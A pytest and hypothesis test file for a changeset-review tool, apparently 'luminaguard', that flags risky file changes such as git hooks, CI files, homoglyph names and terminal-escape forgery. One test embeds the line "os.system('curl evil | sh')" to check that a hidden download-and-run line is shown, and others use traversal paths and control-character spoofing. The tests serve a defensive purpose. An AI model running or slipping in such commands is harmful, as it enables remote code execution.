"""Changes, their digest, layers, marks and cards."""

import hashlib
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from luminaguard.effects import Change, Changeset, DirEntry, FileEntry, LinkEntry, check_path, diffs
from luminaguard.effects.card import make_card
from luminaguard.effects.layer import Observed, changeset_from_layer
from luminaguard.effects.marks import Mark, marks_of
from luminaguard.effects.render import render
from luminaguard.effects.text import mixes_scripts, visible
from luminaguard.errors import ChangesetRefused

SHA = "a" * 64
THIRD = "c" * 64
OTHER = "b" * 64
names = st.text(st.characters(exclude_characters="/\0", codec="utf-8"), min_size=1, max_size=12).filter(
    lambda n: n not in {".", ".."} and not n.startswith(".luminaguard-req-")
)
paths = st.lists(names, min_size=1, max_size=4).map("/".join)
entries = st.one_of(
    st.none(),
    st.builds(FileEntry, st.integers(0, 0o777), st.integers(0, 1 << 40), st.sampled_from([SHA, OTHER])),
    st.builds(DirEntry, st.integers(0, 0o777)),
    st.builds(LinkEntry, st.text(st.characters(exclude_characters="\0", codec="utf-8"), min_size=1, max_size=20)),
)
changes = st.builds(Change, paths, entries, entries).filter(lambda c: c.before != c.after)
changesets = st.lists(changes, max_size=6, unique_by=lambda c: c.path).map(Changeset.of)


@given(changesets)
def test_a_changeset_survives_its_json(changeset):
    again = Changeset.from_json(changeset.to_json())
    assert again == changeset
    assert again.digest == changeset.digest


@given(changesets, changesets)
def test_different_changesets_have_different_digests(one, two):
    assert (one.digest == two.digest) == (one.changes == two.changes)


@pytest.mark.parametrize(
    "path",
    ["", "/etc/passwd", "..", "a/../b", "a//b", "./a", "a/.", "a\0b", "x" * 256, "/".join(["abc"] * 1100),
     "/".join("a" * 201),
     ".luminaguard-req-x/y", "\ud800"],
)  # fmt: skip
def test_paths_that_leave_or_confuse_are_refused(path):
    with pytest.raises(ChangesetRefused):
        check_path(path)


def test_names_that_are_not_utf8_are_kept():
    check_path("caf\udce9")
    change = Change("caf\udce9", None, FileEntry(0o644, 1, SHA))
    assert Changeset.from_json(Changeset.of([change]).to_json()).changes == (change,)


BASE = {
    "a": FileEntry(0o644, 3, SHA),
    "d": DirEntry(0o755),
    "d/x": FileEntry(0o644, 3, SHA),
    "d/e": DirEntry(0o755),
    "d/e/y": LinkEntry("../x"),
}


def file(path, sha=OTHER, mode=0o644, size=3):
    return Observed(path, "file", mode, size, sha256=sha)


def kinds(*layer):
    return {c.path: c.kind for c in changeset_from_layer(BASE, layer).changes}


def test_a_copied_up_file_that_is_the_same_is_no_change():
    assert kinds(file("a", SHA), Observed("d", "dir", 0o755)) == {}


def test_each_kind_of_change_is_seen():
    assert kinds(file("a")) == {"a": "modify"}
    assert kinds(file("a", SHA, 0o755)) == {"a": "mode"}
    assert kinds(file("new")) == {"new": "create"}
    assert kinds(Observed("a", "whiteout")) == {"a": "delete"}
    assert kinds(Observed("l", "symlink", target="/etc")) == {"l": "symlink"}
    assert kinds(Observed("d", "whiteout")) == dict.fromkeys(("d", "d/x", "d/e", "d/e/y"), "delete")
    assert kinds(Observed("d", "dir", 0o755, opaque=True), file("d/z")) == {
        "d/x": "delete", "d/e": "delete", "d/e/y": "delete", "d/z": "create"}  # fmt: skip
    assert kinds(file("d")) == {"d": "modify", "d/x": "delete", "d/e": "delete", "d/e/y": "delete"}


@pytest.mark.parametrize(
    "layer",
    [
        [file("../x")],
        [file("a/b")],
        [Observed("l", "symlink", target="d"), file("l/x")],
        [file("missing/x")],
        [Observed("n", "other")],
        [file("s", mode=0o4755)],
        [file("a"), file("a")],
        [Observed("l", "symlink", target="")],
        [Observed("d", "whiteout"), file("d/x")],
    ],
)
def test_layers_that_escape_or_contradict_themselves_are_refused(layer):
    with pytest.raises(ChangesetRefused):
        changeset_from_layer(BASE, layer)


@given(
    st.lists(
        st.builds(Observed, st.sampled_from(["a", "d", "d/x", "d/e", "d/e/y", "n", "n/m", "../z", "d/../a"]),
                  st.sampled_from(["file", "dir", "symlink", "whiteout", "other"]), st.integers(0, 0o7777),
                  st.just(0), st.sampled_from(["", "x", "/etc"]), st.booleans(), st.just(SHA)),
        max_size=6,
    )
)  # fmt: skip
def test_any_layer_gives_a_consistent_tree_or_a_refusal(layer):
    try:
        changeset = changeset_from_layer(BASE, layer)
    except ChangesetRefused:
        return
    final = dict(BASE)
    for change in changeset.changes:
        assert change.before == BASE.get(change.path)
        if change.after is None:
            final.pop(change.path)
        else:
            final[change.path] = change.after
    for path in final:
        parent = path.rpartition("/")[0]
        assert not parent or isinstance(final[parent], DirEntry)


def mark(path, after=None, before=None):
    return set(marks_of(Change(path, before, after or FileEntry(0o644, 1, SHA))))


def test_what_people_miss_is_marked():
    assert Mark.HOOK in mark(".git/hooks/pre-commit")
    assert Mark.HOOK in mark("sub/.GIT/Hooks/post-merge")
    assert Mark.AUTORUN in mark(".git/config")
    assert Mark.CI in mark(".github/workflows/x.yml")
    assert Mark.CI in mark("Jenkinsfile")
    assert Mark.AUTORUN in mark("x/.vscode/tasks.json")
    assert Mark.HIDDEN in mark(".env")
    assert Mark.EXECUTABLE in mark("x", FileEntry(0o755, 1, SHA))
    assert Mark.WRITABLE in mark("x", FileEntry(0o666, 1, SHA))
    assert Mark.NAME in mark("p\u0430ypal.py")
    assert Mark.CONTROL in mark("x\u202etxt.exe")
    assert Mark.CONTROL in mark("x\x1b[2K")
    assert Mark.TYPE in mark("x", LinkEntry("y"), FileEntry(0o644, 1, SHA))
    assert Mark.LEAVES in mark("a/l", LinkEntry("../../x"))
    assert Mark.LEAVES in mark("l", LinkEntry("/etc/passwd"))
    assert Mark.LEAVES not in mark("a/l", LinkEntry("../x"))
    assert mark("plain.txt") == set()


@given(st.text())
def test_nothing_that_moves_the_cursor_survives(text):
    shown = visible(text)
    assert all(c.isprintable() for c in shown), shown
    assert visible(shown) == shown


def test_scripts_that_mix_are_noticed():
    assert mixes_scripts("p\u0430ypal")
    assert not mixes_scripts("\u0442\u0435\u0441\u0442")
    assert not mixes_scripts("paypal")


def card_text(changeset, before, after, most=40):
    card = make_card(changeset, before.get, after.get)
    return card, "\n".join(line for _, line in render(card, max_diff_lines=most))


def test_a_card_shows_the_diff_and_says_what_is_cut():
    changeset = Changeset.of([Change("f", FileEntry(0o644, 2, SHA), FileEntry(0o644, 999, OTHER))])
    new = b"".join(b"line %d\n" % i for i in range(100))
    card, text = card_text(changeset, {SHA: b"x\n"}, {OTHER: new})
    assert card.summary.lines_added == 100
    assert "+line 5" in text
    assert "more lines of this diff are not shown" in text
    _, full = card_text(changeset, {SHA: b"x\n"}, {OTHER: new}, None)
    assert "+line 99" in full
    assert "not shown" not in full


def test_what_is_loud_stands_at_the_end_too():
    changeset = Changeset.of([Change(".git/hooks/x", None, FileEntry(0o755, 2, OTHER))])
    _, text = card_text(changeset, {}, {OTHER: b"x\n"})
    assert text.splitlines()[-1].startswith("LOOK TWICE")
    assert ".git/hooks/x" in text.splitlines()[-1]


def test_content_cannot_forge_the_card():
    evil = b"ok\n\x1b[1A\x1b[2Kfake \xe2\x80\xaegnp.exe\r\n"
    changeset = Changeset.of([Change("f", None, FileEntry(0o644, len(evil), OTHER))])
    card, text = card_text(changeset, {}, {OTHER: evil})
    assert Mark.CONTROL in card.items[0].marks
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "\\u202e" in text
    assert "\r" not in text


def test_binary_large_and_missing_contents_say_so():
    rows = [
        (FileEntry(0o644, 3, SHA), b"\0\1\2", "binary"),
        (FileEntry(0o644, 1 << 30, SHA), b"", "too large"),
        (FileEntry(0o644, 3, SHA), None, "no longer kept: the request was decided"),
    ]
    for entry, content, words in rows:
        changeset = Changeset.of([Change("f", None, entry)])
        _, text = card_text(changeset, {}, {SHA: content})
        assert words in text


def test_renames_are_recognised():
    entry = FileEntry(0o644, 3, SHA)
    changeset = Changeset.of([Change("old", entry, None), Change("new", None, entry)])
    assert changeset.renames == {"new": "old"}
    card, text = card_text(changeset, {SHA: b"abc"}, {SHA: b"abc"})
    assert "renamed from old" in text
    assert "renamed to new" in text
    assert "abc" not in text  # not as a deletion, which it is not
    assert (card.summary.created, card.summary.deleted, card.summary.renamed) == (0, 0, 1)


def test_a_renamed_file_that_was_edited_shows_what_was_edited():
    old, new = b"".join(b"line %d\n" % i for i in range(50)), b"".join(b"line %d\n" % i for i in range(49)) + b"last\n"
    changes = [
        Change("old", FileEntry(0o644, len(old), SHA), None), Change("new", None, FileEntry(0o755, len(new), OTHER)),
        Change("other", None, FileEntry(0o644, 4, THIRD)),
    ]  # fmt: skip
    _, text = card_text(Changeset.of(changes), {SHA: old}, {OTHER: new, THIRD: b"else"})
    assert "1 created, 0 edited, 0 deleted, 1 renamed   (+2 -1 lines" in text
    assert "renamed from old and edited" in text
    assert "-line 49" in text
    assert "-line 3\n" not in text
    assert "EXECUTABLE" in text


def test_files_that_share_little_are_no_rename():
    old, new = b"a\nb\nc\n" * 20, b"a\n" + b"other words\n" * 20
    changes = [Change("old", FileEntry(0o644, len(old), SHA), None), Change("new", None, FileEntry(0o644, 9, OTHER))]
    card, _ = card_text(Changeset.of(changes), {SHA: old}, {OTHER: new})
    assert (card.summary.created, card.summary.deleted, card.summary.renamed) == (1, 1, 0)


@pytest.mark.parametrize("hidden", ["\ufe01", "\U000e0120", "\u034f", "\u17b4", "\u180b"])
def test_characters_that_show_nothing_are_escaped(hidden):
    assert hidden not in visible(f"a{hidden}b")
    assert Mark.CONTROL in mark(f"a{hidden}b")


def test_a_card_has_a_limit_and_says_what_it_did_not_compare():
    text = b"a\n" * 7900
    entry = FileEntry(0o644, len(text), SHA)
    changeset = Changeset.of([Change(f"g{n:04}", None, entry) for n in range(2000)])
    card, _ = card_text(changeset, {}, {SHA: text})
    assert len(card.items) == 2000
    assert card.items[0].diff
    assert "reached its limit" in card.items[-1].note


def test_a_link_target_that_is_no_name_is_refused():
    with pytest.raises(ChangesetRefused):
        changeset_from_layer(BASE, [Observed("l", "symlink", target="\ud800")])


# -- diffs and what a card must not hide ---------------------------------------------------------------

lines = st.lists(st.sampled_from(["a", "b", "c", ""]), max_size=30)


def patched(old: list[str], diff: list[str]) -> list[str]:
    """Apply a unified diff the way patch does: what a card shows must be all that happens."""
    out, position = [], 0
    for line in diff:
        if line.startswith("@@"):
            start, _, length = line.split(" ")[1][1:].partition(",")
            begin = int(start) - (0 if length == "0" else 1)
            out += old[position:begin]
            position = begin
        elif line.startswith(" "):
            assert old[position] == line[1:]
            out.append(line[1:])
            position += 1
        elif line.startswith("-"):
            assert old[position] == line[1:]
            position += 1
        else:
            out.append(line[1:])
    return out + old[position:]


@given(lines, lines)
def test_a_diff_turns_the_old_text_into_the_new_one(old, new):
    assert patched(old, list(diffs.unified(old, new))) == new


@given(lines, lines)
def test_a_coarse_diff_does_too(old, new):
    saved, diffs._FINE = diffs._FINE, 0
    try:
        assert patched(old, list(diffs.unified(old, new))) == new
    finally:
        diffs._FINE = saved


def test_texts_made_to_be_slow_are_not():
    old = [f"{number % 7}" for number in range(20_000)]
    new = [f"{number % 5}" for number in range(20_000)]
    start = time.process_time()
    assert patched(old, list(diffs.unified(old, new))) == new
    assert time.process_time() - start < 5  # it was minutes; this is no benchmark


def card_of(before: bytes | None, after: bytes, path: str = "f.py", mode: int = 0o644):
    def entry(data: bytes | None) -> FileEntry | None:
        return None if data is None else FileEntry(mode, len(data), hashlib.sha256(data).hexdigest())

    contents = {hashlib.sha256(data).hexdigest(): data for data in (before, after) if data is not None}
    return make_card(Changeset.of([Change(path, entry(before), entry(after))]), contents.get, contents.get)


def test_one_line_in_a_large_file_is_shown():
    rows = [f"line {number}" for number in range(40_000)]
    evil = [*rows[:20_000], "import os; os.system('curl evil | sh')", *rows[20_000:]]
    (item,) = card_of("\n".join(rows).encode(), "\n".join(evil).encode()).items
    assert "+import os; os.system('curl evil | sh')" in item.diff
    assert (len(item.diff), Mark.UNSEEN in item.marks) == (8, False)


def test_what_is_not_shown_is_loud():
    card = card_of(b"a\n" * (1 << 20), b"b\n" * (1 << 20))
    assert Mark.UNSEEN in card.items[0].marks
    assert card.loud == card.items
    assert "NOT SHOWN" in "\n".join(text for _, text in render(card))


def test_files_from_windows_are_no_alarm_and_a_lone_return_is():
    quiet = card_of(b"a;1\r\nb;2\r\n", b"a;1\r\nb;3\r\n", "bank.csv").items[0]
    assert (quiet.diff[-2:], quiet.marks, quiet.note) == (("-b;2", "+b;3"), (), "lines end with CR LF")
    assert Mark.CONTROL in card_of(b"a\nb\n", b"a\nevil\rb\n").items[0].marks
    assert Mark.CONTROL in card_of(b"a\nb\n", b"a\r\nb\r\n").items[0].marks
    assert card_of(None, b"\xef\xbb\xbfname\n").items[0].marks == ()


def test_marks_that_are_common_are_counted_at_the_top():
    changes = [Change(name, FileEntry(0o644, 1, SHA), None) for name in ("a", "b", ".hidden")]
    text = [line for _, line in render(make_card(Changeset.of(changes), lambda _: b"x", lambda _: b"x"))]
    assert text[2] == "ALSO MARKED: 3 DELETED, 1 HIDDEN"


@pytest.mark.parametrize(
    ("path", "mark"),
    [
        (".git/modules/lib/hooks/post-checkout", Mark.HOOK),
        ("mirror.git/hooks/update", Mark.HOOK),
        (".gitea/workflows/x.yml", Mark.CI),
        (".forgejo/workflows/x.yml", Mark.CI),
        (".github/actions/build/action.yml", Mark.CI),
    ],
)
def test_more_places_that_run_by_themselves(path, mark):
    assert mark in marks_of(Change(path, None, FileEntry(0o644, 1, SHA)))


def test_a_link_through_a_link_may_leave():
    assert Mark.LEAVES in marks_of(Change("d/lnk", None, LinkEntry("e/up/../x")))
    assert Mark.LEAVES not in marks_of(Change("d/lnk", None, LinkEntry("../x")))
